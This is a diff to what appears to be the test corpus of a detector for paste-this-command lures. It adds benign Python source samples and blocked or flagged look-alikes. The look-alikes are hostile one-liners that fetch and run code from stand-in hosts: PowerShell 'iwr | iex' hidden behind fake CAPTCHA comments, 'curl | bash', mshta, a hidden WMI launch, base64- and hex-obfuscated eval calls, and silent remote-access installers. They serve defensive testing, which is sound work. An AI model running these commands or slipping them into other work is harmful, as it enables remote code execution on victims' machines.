@@ -13,6 +13,11 @@ clears and the look-alikes it must not clear (ids `b6b-ok-<technique>-NN` and
   word with a CDN's word run onto it (tallowvpn.com and downloads.tallowcdn.com). Look-alikes:
   the word joined with a hyphen (tallow-cdn.top), another company's stem, a known vendor's
   stem, a page of a forum, a blog or a recipe, plain HTTP, a hidden window, the Run box.
+- `source`: real source files and their docstrings: aligned comments in a file of many lines
+  (padding is layout there, not a box's hidden end), Python's own eval() beside escapes, a
+  STARTUPINFO's wShowWindow, a turtle's getscreen(), a NUL escape after an address in a test.
+  Look-alikes: a padded one-line lure, a padded first line of a long paste, WMI's ShowWindow = 0,
+  eval(atob(...)) with no Python in sight, GetScreen's installer, a backslash address.
 """
 
 from __future__ import annotations
@@ -123,6 +128,180 @@ book.add(
     "windows",
     "run_dialog",
     "https://tallowvpn.com/download/windows/",
+)
+
+
+# --- source: texts of many lines whose layout, names and literals are a program's own ---
+PY_HEAD = (
+    "import os\nimport sys\nimport subprocess\n\n\n"
+    "def build_args(options):\n"
+    '    """Turn option flags into command-line arguments."""\n'
+    "    args = []\n"
+    "    if options.optimize:\n"
+    "        args.append('-' + 'O')\n"
+)
+PY_TAIL = "    return args\n\n\ndef main():\n    print(build_args(sys.argv[1:]))\n\n\nmain()\n"
+ALIGNED = [
+    "    args.append('-v')                  # verbose\n    args.append('-q')                  # quiet\n",
+    "    timeout = 30                       # seconds before the child is killed\n",
+    "    cmd = ['ls', '-l', path]            # run ls on the file\n    subprocess.run(cmd)\n",
+    "    subprocess.run(['powershell', '-NoProfile', '-c', 'Get-Date'])   # the date on Windows\n",
+    "    os.system('cmd /c ver')             # Windows version string\n",
+]
+for n, middle in enumerate(ALIGNED):
+    text = PY_HEAD + middle + PY_TAIL
+    book.add("source", text, ok, "any", ("other", "unknown", "terminal")[n % 3], None)
+DOCTEST = (
+    "class Money:\n"
+    '    """A sum of money.\n\n'
+    "    >>> Money('3.14')              # string input\n"
+    "    Money('3.14')\n"
+    "    >>> Money(314)                 # int\n"
+    "    Money('314')\n"
+    "    >>> Money('-0')                # negative zero\n"
+    "    Money('-0')\n"
+    '    """\n\n'
+    "    def __init__(self, value='0'):\n"
+    "        self.value = str(value)\n\n"
+    "    def __repr__(self):\n"
+    "        return f'Money({self.value!r})'\n"
+)
+book.add(
+    "source",
+    DOCTEST,
+    ok,
+    "any",
+    "other",
+    "https://github.com/acme-finance/money/blob/main/money.py",
+)
+book.add("source", DOCTEST, ok, "any", "unknown", None)
+EVAL_PY = (
+    "import ast\n\n\n"
+    "def safe_eval(expr, names):\n"
+    '    """Evaluate a small arithmetic expression; refuse anything else."""\n'
+    "    tree = ast.parse(expr, mode='eval')\n"
+    "    return eval(compile(tree, '<expr>', 'eval'), {'__builtins__': {}}, names)\n\n\n"
+    "def test_nul():\n"
+    "    assert safe_eval('1 + 2', {}) == 3\n"
+    "    data = b'\\x00\\x01\\xff'\n"
+    "    assert data.decode('latin-1') == '\\x00\\x01\\xff'\n"
+)
+book.add("source", EVAL_PY, ok, "any", "other", None)
+book.add("source", EVAL_PY, ok, "any", "unknown", None)
+book.add(
+    "source",
+    "async " + EVAL_PY.replace("import ast\n\n\nasync ", "import ast\n\n\n"),
+    ok,
+    "any",
+    "unknown",
+    None,
+)
+STARTUP = (
+    "class STARTUPINFO:\n"
+    "    def __init__(self, *, dwFlags=0, hStdInput=None, hStdOutput=None,\n"
+    "                 hStdError=None, wShowWindow=0, lpAttributeList=None):\n"
+    "        self.dwFlags = dwFlags\n"
+    "        self.wShowWindow = wShowWindow\n\n"
+    "    def copy(self):\n"
+    "        return STARTUPINFO(dwFlags=self.dwFlags, wShowWindow=self.wShowWindow)\n"
+)
+book.add("source", STARTUP, ok, "any", "other", None)
+book.add("source", STARTUP, ok, "any", "unknown", None)
+TURTLE = (
+    "__all__ = ['forward', 'back', 'getpen', 'getscreen', 'setup', 'done']\n\n"
+    "def setup(width=0.5, height=0.75):\n"
+    "    screen = getscreen()\n"
+    "    screen.setup(width, height)\n\n"
+    "# example: curl -O https://docs.python.org/3/_downloads/turtle_demo.py\n"
+)
+book.add("source", TURTLE, ok, "any", "unknown", None)
+book.add("source", TURTLE, ok, "any", "other", None)
+NUL_TEST = (
+    "def test_null_byte_in_subject(self):\n"
+    "    san = (('URI', 'http://null.python.org\\x00http://example.org'),\n"
+    "           ('DNS', 'altnull.python.org\\x00example.com'),\n"
+    "           ('email', 'null@python.org\\x00user@example.org'))\n"
+    "    self.assertEqual(cert['subjectAltName'], san)\n"
+)
+book.add("source", NUL_TEST, ok, "any", "unknown", None)
+book.add("source", NUL_TEST, ok, "any", "other", None)
+
+# what these readings must not reach
+book.add(
+    "source",
+    'powershell -w h -c "iwr https://c.update-relay.test/a.ps1 | iex"                    # I am not a robot - reCAPTCHA ID 4471',
+    blocked,
+    "windows",
+    "run_dialog",
+    "https://verify.pagecheck.test/",
+)
+book.add(
+    "source",
+    "mshta https://c.update-relay.test/a.hta                                        # Windows Defender verified file",
+    flagged,
+    "windows",
+    "run_dialog",
+    None,
+)
+book.add(
+    "source",
+    "curl -fsSL https://c.update-relay.test/a.sh | bash                                  # Verification ID: 88231\n"
+    + "echo ok\n" * 14,
+    flagged,
+    "macos",
+    "terminal",
+    "https://www.bakery-lane.test/",
+)
+book.add(
+    "source",
+    'Set objStartup = GetObject("winmgmts:Win32_ProcessStartup")\n'
+    "Set objConfig = objStartup.SpawnInstance_\n"
+    "objConfig.ShowWindow = 0\n"
+    'GetObject("winmgmts:Win32_Process").Create "powershell -c iwr https://c.update-relay.test/p | iex", Null, objConfig, pid\n',
+    flagged,
+    "windows",
+    "unknown",
+    None,
+)
+book.add(
+    "source",
+    "eval(atob('ZmV0Y2goImh0dHBzOi8vYy51cGRhdGUtcmVsYXkudGVzdC9rIik='))",
+    flagged,
+    "any",
+    "browser_console",
+    None,
+)
+book.add(
+    "source",
+    "var s='\\x66\\x65\\x74\\x63\\x68';eval(s+'(\"https://c.update-relay.test/k\")')",
+    flagged,
+    "any",
+    "browser_console",
+    None,
+)
+book.add(
+    "source",
+    "curl -o /tmp/getscreen.exe https://dl.remote-help.test/getscreen.exe && wine /tmp/getscreen.exe /s",
+    flagged,
+    "linux",
+    "terminal",
+    "https://support-desk.test/session",
+)
+book.add(
+    "source",
+    "iwr https://dl.remote-help.test/getscreen-setup.msi -OutFile $env:TEMP\\g.msi; msiexec /i $env:TEMP\\g.msi /qn",
+    flagged,
+    "windows",
+    "terminal",
+    "https://support-desk.test/session",
+)
+book.add(
+    "source",
+    "msiexec /q /i http:\\\\c.update-relay.test\\x64\\setup.msi",
+    flagged,
+    "windows",
+    "run_dialog",
+    None,
 )
 
 
